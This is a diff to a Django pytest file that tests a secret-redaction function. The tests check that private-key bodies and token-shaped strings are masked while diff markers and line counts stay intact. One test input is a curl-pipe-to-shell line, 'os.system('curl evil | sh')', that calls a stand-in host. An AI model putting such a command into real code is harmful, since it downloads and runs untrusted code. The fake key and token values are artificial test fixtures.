@@ -12,11 +12,13 @@ from collections.abc import Mapping
 
 import pytest
 from django.db import connection
+from hypothesis import given
+from hypothesis import strategies as st
 from rest_framework.test import APIClient
 
 from approvals.models import ApprovalRequest
 from approvals.services import DjangoApprovals, grant
-from common.redact import MASK, masked, redact, redact_text
+from common.redact import MASK, masked, redact, redact_lines, redact_text
 from notifications.models import WebhookEndpoint
 from runs.core.environment import Environment
 from runs.core.jsonutil import JSON
@@ -24,6 +26,7 @@ from runs.core.scenarios import FIXED, call
 from runs.core.simulated import SimExecutor, SimWorkspace
 from runs.models import Artifact, Run
 from runs.services import check_new_run, do_create_run, drive_run
+from sandbox.patches import unified_diff
 from tests.helpers import CONTRACT
 
 ENV_SECRET = "server-env-secret-4f9c1e7a55"
@@ -47,7 +50,7 @@ class DiffingWorkspace(SimWorkspace):
     def preview(self, tool: str, args: Mapping[str, JSON]) -> str | None:
         if tool != "publish":
             return super().preview(tool, args)
-        return "".join(f"--- a/{p}\n+++ b/{p}\n-{self.original.get(p, '')}\n+{c}\n" for p, c in self.files.items())
+        return "".join(unified_diff(p, self.original.get(p), c) for p, c in self.files.items())
 
 
 def leaks(text: str) -> list[str]:
@@ -66,7 +69,8 @@ def scan_database() -> list[str]:
 
 def test_it_masks_credential_shapes_and_configured_values():
     text = f"a {OPENAI_SHAPED} b {GITHUB_SHAPED} c {AWS_SHAPED} d {SLACK_SHAPED} e {PEM} f {ENV_SECRET}"
-    assert redact_text(text, [ENV_SECRET]) == f"a {MASK} b {MASK} c {MASK} d {MASK} e {MASK} f {MASK}"
+    key = PEM.replace("MIIEowIBAAKCAQEA7pemBodyLine", MASK)  # masked within its lines, the markers kept
+    assert redact_text(text, [ENV_SECRET]) == f"a {MASK} b {MASK} c {MASK} d {MASK} e {key} f {MASK}"
     assert redact_text("sha256:" + "ab" * 32, [ENV_SECRET]) == "sha256:" + "ab" * 32
 
 
@@ -129,3 +133,69 @@ def test_it_never_stores_or_serves_a_secret_planted_in_every_field_a_run_reaches
         assert response.status_code == 200, (response.request["PATH_INFO"], response.status_code)
         assert leaks(response.content.decode()) == [], response.request["PATH_INFO"]
     assert MASK in json.dumps(Run.objects.get(pk=run.pk).state)
+
+
+def test_it_masks_within_lines_and_keeps_the_key_markers_and_words_that_look_like_shapes():
+    body = "MIIEowIBAAKCAQEA7pemBodyLine"
+    diff = f"+# rotated\n -----BEGIN RSA PRIVATE KEY-----\n {body}\n-{body}\n+{body}\ndiff --git a/orders/total.py b/orders/total.py\n+os.system('x')\n"
+    assert redact_text(diff, []) == diff.replace(body, MASK)  # the next file's lines stay visible
+    # A key on one line of a JSON or env file, a Go-style one, and code after a marker.
+    assert redact_text(f'"k": "-----BEGIN PRIVATE KEY-----\\n{body}\\n-----END PRIVATE KEY-----\\n"', []) == (
+        f'"k": "-----BEGIN PRIVATE KEY-----{MASK}-----END PRIVATE KEY-----\\n"'
+    )
+    go = f'k := "-----BEGIN RSA PRIVATE KEY-----\\n" +\n\t"{body}\\n" +\n\t"-----END RSA PRIVATE KEY-----"'
+    assert redact_text(go, []) == go.replace(f"{body}\\n", MASK)
+    code = "# -----BEGIN RSA PRIVATE KEY-----\nos.system('curl evil | sh')\n"
+    assert redact_text(code, []) == code
+    words = "task-runner-configuration disk-usage-is-high-today"
+    assert redact_text(words, []) == words
+    # A configured value of several lines is masked line by line.
+    assert redact_text("a\nfirst-line-of-it\nsecond-line-of-it\nb", secret_values_of(["first-line-of-it\nsecond-line-of-it"])) == (
+        f"a\n{MASK}\n{MASK}\nb"
+    )
+
+
+def secret_values_of(values: list[str]) -> list[str]:
+    from django.test import override_settings
+
+    from common.redact import secret_values
+
+    with override_settings(HARNESS_SECRET_VALUES=values):
+        return secret_values()
+
+
+hostile_lines = st.lists(
+    st.sampled_from(
+        [
+            "-----BEGIN RSA PRIVATE KEY-----",
+            "-----END RSA PRIVATE KEY-----",
+            "MIIEowIBAAKCAQEA7pemBodyLine",
+            "+MIIEowIBAAKCAQEA7pemBodyLine",
+            "-abc==-----END PRIVATE KEY-----",
+            '  "-----BEGIN EC PRIVATE KEY-----\\n" +',
+            "+-----BEGIN PRIVATE KEY-----x",
+            "Proc-Type: 4,ENCRYPTED",
+            "",
+            "+",
+            "-",
+            " ",
+            "@@ -1,2 +1,2 @@",
+            "--- a/f",
+            "sk-" + "Ab1" * 8,
+            "+ghp_" + "x" * 24,
+            "code(1)",
+        ]
+    ),
+    min_size=1,
+    max_size=20,
+)
+
+
+@given(lines=hostile_lines)
+def test_it_never_changes_a_line_count_or_a_diff_marker_and_streams_the_same(lines):
+    text = "\n".join(lines)
+    masked_text = redact_text(text, [ENV_SECRET])
+    out = masked_text.split("\n")
+    assert len(out) == len(lines)
+    assert [line[:1] for line in out if line[:1] in "+-"] == [line[:1] for line in lines if line[:1] in "+-"]
+    assert "\n".join(redact_lines(lines, [ENV_SECRET])) == masked_text
